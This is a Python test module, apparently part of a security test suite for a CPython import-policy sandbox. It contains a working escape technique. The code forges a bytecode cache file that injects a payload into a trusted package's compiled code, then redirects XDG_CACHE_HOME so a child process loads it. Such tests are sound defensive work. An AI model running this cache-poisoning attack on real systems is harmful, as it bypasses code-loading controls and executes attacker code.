"""XDG_CACHE_HOME is planted, with compiled code of a granted package."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "baseline"
SILENT = "The child has the cache that its parent has."

import marshal
import os
import struct
import sys
from importlib.util import MAGIC_NUMBER

from . import payload


KIND = 0x33637069


def sum_of(body):
    result = len(body)
    padded = body + bytes(32 - len(body) % 32)
    for words in zip(*struct.iter_unpack("=4Q", padded)):
        result = (result ^ sum(words)) * 0x9e3779b97f4a7c15 % 2**64
    return result


def attack():
    import _imp
    import good
    if not _imp.has_policy():
        return payload.act()
    with open(good.__file__) as file:
        code = compile(payload.SOURCE + "\n" + file.read(), good.__file__,
                       "exec")
    body = marshal.dumps(code)
    text = f"{sys.version}\n{good.__file__}".encode()
    status = os.stat(good.__file__)
    header = struct.pack(
        "=IIIIQQQQQ", KIND, int.from_bytes(MAGIC_NUMBER, "little"), 0,
        len(text), status.st_size, status.st_ino, status.st_mtime_ns,
        status.st_ctime_ns, sum_of(body))
    name = _imp.source_hash(KIND, text)[::-1].hex()
    path = payload.ROOT + "/tmp/cpython-importpolicy/bytecode"
    os.makedirs(path, 0o700)
    with open(f"{path}/__init__-{name}.pyc", "wb") as file:
        file.write(header + text + body)
    os.environ["XDG_CACHE_HOME"] = payload.ROOT + "/tmp"
